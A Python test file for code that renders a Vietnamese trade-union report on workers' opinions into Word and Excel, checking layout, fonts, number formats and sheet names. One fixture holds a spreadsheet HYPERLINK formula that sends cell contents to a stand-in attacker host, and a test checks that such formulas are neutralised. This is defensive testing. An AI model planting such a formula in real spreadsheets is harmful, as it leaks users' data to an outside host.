"""The Word and Excel renderers of a summary: pure functions, no database."""

import copy
import io

import pytest
from docx import Document
from docx.shared import Cm
from docx.table import Table
from docx.text.paragraph import Paragraph
from openpyxl import load_workbook

from summaries.documents import format_number, render_docx, render_xlsx, sheet_title

MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _content() -> dict:
    return {
        "labels": {
            "motto_1": "Cộng hòa xã hội chủ nghĩa Việt Nam",
            "motto_2": "Độc lập - Tự do - Hạnh phúc",
            "recipients": "Nơi nhận:",
            "addressed_to": "Kính gửi:",
            "statistics": "Số liệu",
            "sheet_overview": "Tổng quan",
        },
        "parent_body": "Tổng Liên đoàn Lao động Việt Nam",
        "issuer": "Liên đoàn Lao động thành phố Hà Nội",
        "number": "Số: 12/BC-LĐLĐ",
        "place_date": "Hà Nội, ngày 20 tháng 11 năm 2026",
        "doc_type": "BÁO CÁO",
        "title": "Tình hình tư tưởng của CNVCLĐ và dư luận xã hội tháng 10/2026",
        "addressed_to": ["Ban Tuyên giáo và Dân vận Thành ủy", "Tổng Liên đoàn Lao động Việt Nam"],
        "intro": "Thực hiện chế độ báo cáo định kỳ, Liên đoàn Lao động thành phố báo cáo như sau:",
        "sections": [
            {
                "key": "mood",
                "heading": "I. Tình hình tư tưởng, tâm trạng chung",
                "paragraphs": [
                    "Tư tưởng của đa số CNVCLĐ ổn định, tin tưởng vào sự lãnh đạo của Đảng.",
                    "Một số ý kiến băn khoăn về việc sắp xếp, tinh gọn bộ máy.",
                ],
                "tables": ["by_kind"],
            },
            {
                "key": "policies",
                "heading": "II. Dư luận về các sự kiện, chủ trương, chính sách",
                "paragraphs": ["Nhiều ý kiến đồng tình với mức xử phạt vi phạm giao thông theo Nghị định 168/2024."],
                "tables": ["by_topic"],
            },
            {
                "key": "hot_spots",
                "heading": "III. Những vấn đề bức xúc, nổi cộm, điểm nóng",
                "paragraphs": ["Ngừng việc tập thể tại một doanh nghiệp trong khu công nghiệp do nợ lương."],
                "tables": [],
            },
            {
                "key": "rumours",
                "heading": "IV. Tin đồn, thông tin sai lệch, xấu độc",
                "paragraphs": [],
            },
            {"key": "forecast", "heading": "V. Dự báo tình hình", "paragraphs": ["Tình hình cơ bản ổn định."]},
            {
                "key": "proposals",
                "heading": "VI. Kiến nghị, đề xuất",
                "paragraphs": ["Đề nghị sớm hướng dẫn chế độ cho người lao động dôi dư."],
            },
        ],
        "tables": {
            "by_kind": {
                "title": "Số báo cáo theo loại",
                "columns": ["Loại", "Số báo cáo", "Tỷ lệ (%)"],
                "rows": [["Ý kiến, luồng dư luận", 12345, 45.5], ["Tin đồn", 144, 54.5], [MALICIOUS, 0, 0.0]],
                "total_row": ["Tổng", 12489, 100.0],
            },
            "by_topic": {
                "title": "Dư luận theo lĩnh vực: tiền lương/thu nhập [tháng 10] và việc làm",
                "columns": ["Lĩnh vực", "Số báo cáo"],
                "rows": [["Tiền lương, thu nhập, thưởng", 88], ["Việc làm, cắt giảm lao động, nợ lương", 1500]],
                "total_row": None,
            },
            "by_topic_again": {
                "title": "Dư luận theo lĩnh vực: tiền lương/thu nhập [tháng 10] và việc làm",
                "columns": ["Lĩnh vực", "Số báo cáo"],
                "rows": [["Khác", 3]],
                "total_row": None,
            },
        },
        "signer": {"on_behalf": "TM. Ban Thường vụ", "title": "Chủ tịch", "name": "Nguyễn Văn A"},
        "recipients": ["Như trên;", "Lưu: VT, TG."],
        "footer_note": "Phiên bản 2 — đính chính bản ngày 18/11/2026",
    }


def _docx(content):
    return Document(io.BytesIO(render_docx(content)))


def _all_paragraphs(document):
    """Every paragraph, in the body and in table cells, in document order."""
    for child in document.element.body.iterchildren():
        if child.tag.endswith("}p"):
            yield Paragraph(child, document)
        elif child.tag.endswith("}tbl"):
            for row in Table(child, document).rows:
                for cell in row.cells:
                    yield from cell.paragraphs


def _texts(document):
    return [p.text for p in _all_paragraphs(document)]


def _paragraph(document, text):
    return next(p for p in _all_paragraphs(document) if p.text == text)


def _xlsx(content):
    return load_workbook(io.BytesIO(render_xlsx(content)))


# -- Word --------------------------------------------------------------------------------------


def test_docx_header_has_issuer_left_and_motto_right_in_upper_case():
    document = _docx(_content())
    header = document.tables[0]
    left, right = (cell.paragraphs for cell in header.rows[0].cells)

    assert [p.text for p in left if p.text] == [
        "TỔNG LIÊN ĐOÀN LAO ĐỘNG VIỆT NAM",
        "LIÊN ĐOÀN LAO ĐỘNG THÀNH PHỐ HÀ NỘI",
        "Số: 12/BC-LĐLĐ",
    ]
    assert [p.text for p in right if p.text] == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Hà Nội, ngày 20 tháng 11 năm 2026",
    ]
    assert not _paragraph(document, "TỔNG LIÊN ĐOÀN LAO ĐỘNG VIỆT NAM").runs[0].bold
    assert _paragraph(document, "LIÊN ĐOÀN LAO ĐỘNG THÀNH PHỐ HÀ NỘI").runs[0].bold
    assert _paragraph(document, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM").runs[0].bold
    assert _paragraph(document, "Độc lập - Tự do - Hạnh phúc").runs[0].bold
    assert _paragraph(document, "Hà Nội, ngày 20 tháng 11 năm 2026").runs[0].italic
    # A layout table: no borders.
    assert 'w:val="nil"' in header._tbl.xml


def test_docx_has_type_title_addressees_sections_and_body_text():
    content = _content()
    document = _docx(content)
    texts = _texts(document)

    doc_type = _paragraph(document, "BÁO CÁO")
    title = _paragraph(document, content["title"])
    assert doc_type.runs[0].bold and title.runs[0].bold
    assert doc_type.alignment == title.alignment == 1  # centred
    assert "Kính gửi:\t- Ban Tuyên giáo và Dân vận Thành ủy" in texts
    assert "- Tổng Liên đoàn Lao động Việt Nam" in texts
    assert content["intro"] in texts

    headings = [section["heading"] for section in content["sections"]]
    positions = [texts.index(heading) for heading in headings]
    assert positions == sorted(positions)
    assert all(_paragraph(document, heading).runs[0].bold for heading in headings)
    body = _paragraph(document, "Một số ý kiến băn khoăn về việc sắp xếp, tinh gọn bộ máy.")
    assert body.alignment == 3  # justified
    assert body.paragraph_format.first_line_indent > 0
    assert texts[-1] == content["footer_note"]
    assert _paragraph(document, content["footer_note"]).runs[0].italic


def test_docx_tables_are_real_word_tables_with_formatted_numbers():
    document = _docx(_content())
    by_kind = next(t for t in document.tables if t.rows[0].cells[0].text == "Loại")

    assert by_kind.style.name == "Table Grid"
    assert [c.text for c in by_kind.rows[0].cells] == ["Loại", "Số báo cáo", "Tỷ lệ (%)"]
    assert all(c.paragraphs[0].runs[0].bold for c in by_kind.rows[0].cells)
    assert [c.text for c in by_kind.rows[1].cells] == ["Ý kiến, luồng dư luận", "12.345", "45,5"]
    assert by_kind.rows[1].cells[1].paragraphs[0].alignment == 2  # right
    assert by_kind.rows[1].cells[0].paragraphs[0].alignment == 0  # left
    total = by_kind.rows[-1]
    assert [c.text for c in total.cells] == ["Tổng", "12.489", "100,0"]
    assert all(c.paragraphs[0].runs[0].bold for c in total.cells)
    assert not by_kind.rows[1].cells[0].paragraphs[0].runs[0].bold
    # Shown under its section, after the section's paragraphs and before the next heading.
    texts = _texts(document)
    assert (
        texts.index("Một số ý kiến băn khoăn về việc sắp xếp, tinh gọn bộ máy.")
        < texts.index("Số báo cáo theo loại")
        < texts.index("Loại")
        < texts.index("II. Dư luận về các sự kiện, chủ trương, chính sách")
    )
    # A table no section shows is in the workbook only.
    assert "Khác" not in texts


def test_docx_signature_block_has_recipients_left_and_signer_right():
    document = _docx(_content())
    left, right = (cell for cell in document.tables[-1].rows[0].cells)

    assert [p.text for p in left.paragraphs] == ["Nơi nhận:", "- Như trên;", "- Lưu: VT, TG."]
    label = left.paragraphs[0].runs[0]
    assert label.bold and label.italic and label.font.size.pt == 12
    assert left.paragraphs[1].runs[0].font.size.pt == 11
    signer = [p.text for p in right.paragraphs]
    assert signer[:2] == ["TM. BAN THƯỜNG VỤ", "CHỦ TỊCH"]
    assert signer[-1] == "Nguyễn Văn A"
    assert signer[2:-1] and not any(signer[2:-1])  # room to sign
    assert right.paragraphs[-1].runs[0].bold


def test_docx_is_a4_with_decree_30_margins_in_times_new_roman():
    document = _docx(_content())
    section = document.sections[0]

    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    assert abs(section.top_margin - Cm(2)) < Cm(0.05)
    assert abs(section.bottom_margin - Cm(2)) < Cm(0.05)
    assert abs(section.left_margin - Cm(3)) < Cm(0.05)
    assert Cm(1.5) - Cm(0.05) <= section.right_margin <= Cm(2) + Cm(0.05)
    runs = [run for p in _all_paragraphs(document) for run in p.runs]
    assert runs
    for run in runs:
        assert run.font.name == "Times New Roman"
        fonts = run._element.rPr.rFonts
        assert fonts.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia") == "Times New Roman"
    assert document.styles["Normal"].font.name == "Times New Roman"
    body = _paragraph(document, "Tình hình cơ bản ổn định.")
    assert 13 <= body.runs[0].font.size.pt <= 14


def test_docx_without_addressees_or_parent_body_leaves_them_out():
    content = _content()
    content.update(addressed_to=[], parent_body="", intro="", footer_note="")
    content["signer"]["name"] = ""
    document = _docx(content)
    texts = _texts(document)

    assert not any(text.startswith("Kính gửi") for text in texts)
    left = [p.text for p in document.tables[0].rows[0].cells[0].paragraphs if p.text]
    assert left == ["LIÊN ĐOÀN LAO ĐỘNG THÀNH PHỐ HÀ NỘI", "Số: 12/BC-LĐLĐ"]
    assert "I. Tình hình tư tưởng, tâm trạng chung" in texts


def test_docx_with_a_single_addressee_puts_it_on_the_label_line():
    content = _content()
    content["addressed_to"] = ["Ban Tuyên giáo và Dân vận Thành ủy"]

    assert "Kính gửi: Ban Tuyên giáo và Dân vận Thành ủy" in _texts(_docx(content))


def test_english_labels_replace_the_vietnamese_ones():
    content = _content()
    content["labels"].update(
        motto_1="Socialist Republic of Vietnam",
        motto_2="Independence - Freedom - Happiness",
        recipients="Recipients:",
        addressed_to="To:",
        sheet_overview="Overview",
        thousands_separator=",",
        decimal_separator=".",
    )
    document = _docx(content)
    texts = _texts(document)

    assert "SOCIALIST REPUBLIC OF VIETNAM" in texts
    assert "Recipients:" in texts
    assert not any("Kính gửi" in text or "Nơi nhận" in text for text in texts)
    assert "12,345" in texts and "45.5" in texts
    assert _xlsx(content).sheetnames[0] == "Overview"


@pytest.mark.parametrize("render", [render_docx, render_xlsx])
def test_a_section_showing_an_unknown_table_is_a_caller_bug(render):
    content = _content()
    content["sections"][2]["tables"] = ["by_kind", "no_such_table"]

    with pytest.raises(ValueError, match="no_such_table"):
        render(content)


def test_a_row_wider_than_its_columns_is_refused():
    content = _content()
    content["tables"]["by_topic"]["rows"].append(["Khác", 1, 2])

    with pytest.raises(ValueError, match="by_topic"):
        render_docx(content)


def test_control_characters_do_not_break_the_files():
    content = _content()
    content["intro"] = "Có ký tự lạ\x0b\x01 ở đây"
    content["tables"]["by_topic"]["rows"][0][0] = "Tiền lương\x07"

    assert "Có ký tự lạ ở đây" in _texts(_docx(content))
    assert _xlsx(content)["Số báo cáo theo loại"] is not None


def test_format_number_groups_integers_and_keeps_one_decimal():
    assert format_number(12345) == "12.345"
    assert format_number(999) == "999"
    assert format_number(-1234567) == "-1.234.567"
    assert format_number(45.55) in {"45,5", "45,6"}  # binary floating point
    assert format_number(1234.0) == "1.234,0"
    assert format_number(12345, thousands=",", decimal=".") == "12,345"


# -- Excel -------------------------------------------------------------------------------------


def test_xlsx_has_an_overview_then_one_sheet_per_table():
    content = _content()
    workbook = _xlsx(content)

    assert workbook.sheetnames == [
        "Tổng quan",
        "Số báo cáo theo loại",
        "Dư luận theo lĩnh vực tiền lươn",
        "Dư luận theo lĩnh vực tiền (2)",
    ]
    overview = [row[0] for row in workbook["Tổng quan"].iter_rows(values_only=True)]
    for value in (content["issuer"], content["title"], content["number"], content["place_date"]):
        assert value in overview
    for section in content["sections"]:
        assert section["heading"] in overview
    assert content["footer_note"] in overview


def test_xlsx_table_sheet_has_bold_title_and_header_real_numbers_and_bold_total():
    sheet = _xlsx(_content())["Số báo cáo theo loại"]
    rows = list(sheet.iter_rows(values_only=True))

    assert rows[0][0] == "Số báo cáo theo loại"
    assert sheet["A1"].font.bold
    assert rows[1] == ("Loại", "Số báo cáo", "Tỷ lệ (%)")
    assert all(cell.font.bold for cell in sheet[2])
    assert rows[2] == ("Ý kiến, luồng dư luận", 12345, 45.5)
    assert isinstance(sheet["B3"].value, int) and sheet["B3"].data_type == "n"
    assert isinstance(sheet["C3"].value, float)
    assert rows[-1] == ("Tổng", 12489, 100.0)
    assert all(cell.font.bold for cell in sheet[sheet.max_row])
    assert not sheet["A3"].font.bold
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["A"].width >= len("Ý kiến, luồng dư luận")


def test_xlsx_neutralises_formulas_in_text_cells():
    content = _content()
    content["tables"]["by_kind"]["columns"][0] = "@SUM(1)"
    content["title"] = "+cmd"
    workbook = _xlsx(content)
    sheet = workbook["Số báo cáo theo loại"]

    cell = sheet["A5"]
    assert cell.data_type == "s"
    assert cell.value == "'" + MALICIOUS
    assert sheet["A2"].value == "'@SUM(1)"
    assert "'+cmd" in [row[0] for row in workbook["Tổng quan"].iter_rows(values_only=True)]
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for each in row:
                assert each.data_type != "f"


def test_sheet_titles_are_cleaned_shortened_and_unique():
    taken: set[str] = set()

    assert sheet_title("Tổng quan", taken, fallback="1") == "Tổng quan"
    assert sheet_title("TỔNG QUAN", taken, fallback="2") == "TỔNG QUAN (2)"  # Excel ignores case
    assert sheet_title("a[b]:c*d?e/f\\g", taken, fallback="3") == "a b c d e f g"
    long = sheet_title("x" * 40, taken, fallback="4")
    assert long == "x" * 31
    again = sheet_title("x" * 40, taken, fallback="5")
    assert again == "x" * 27 + " (2)" and len(again) == 31
    assert sheet_title("[]:*?", taken, fallback="6") == "6"
    assert sheet_title("'Quoted'", taken, fallback="7") == "Quoted"
    assert sheet_title("History", taken, fallback="8") == "History (2)"


def test_xlsx_without_parent_body_or_tables_still_opens():
    content = copy.deepcopy(_content())
    content.update(parent_body="", addressed_to=[], tables={})
    for section in content["sections"]:
        section["tables"] = []
    workbook = _xlsx(content)

    assert workbook.sheetnames == ["Tổng quan"]
    assert workbook["Tổng quan"]["A1"].value == content["issuer"]
    assert _docx(content).tables  # header and signature only


def test_a_table_without_rows_gives_its_sentence_instead_once():
    content = _content()
    sentence = "Trong kỳ không tổ chức buổi tập huấn nào."
    content["tables"]["trainings"] = {
        "title": "Tập huấn trong kỳ",
        "columns": ["Buổi tập huấn", "Lượt đăng ký", "Lượt tham dự"],
        "rows": [],
        "total_row": None,
        "empty": sentence,
    }
    content["sections"][4]["tables"] = ["trainings"]
    document = _docx(content)
    texts = _texts(document)
    assert texts.count(sentence) == 1 and "Buổi tập huấn" not in texts and "Tập huấn trong kỳ" not in texts
    assert len(document.tables) == len(_docx(_content()).tables)  # no table added
    # A section that already says it does not say it twice.
    content["sections"][4]["paragraphs"].append(f"Mạng lưới hoạt động đều. {sentence}")
    assert sum(text.count(sentence) for text in _texts(_docx(content))) == 1
    sheet = _xlsx(content)["Tập huấn trong kỳ"]
    assert [c for row in sheet.iter_rows(values_only=True) for c in row if c] == ["Tập huấn trong kỳ", sentence]
    # With rows, the table as before.
    content["tables"]["trainings"]["rows"] = [[2, 30, 25]]
    assert "Buổi tập huấn" in _texts(_docx(content))
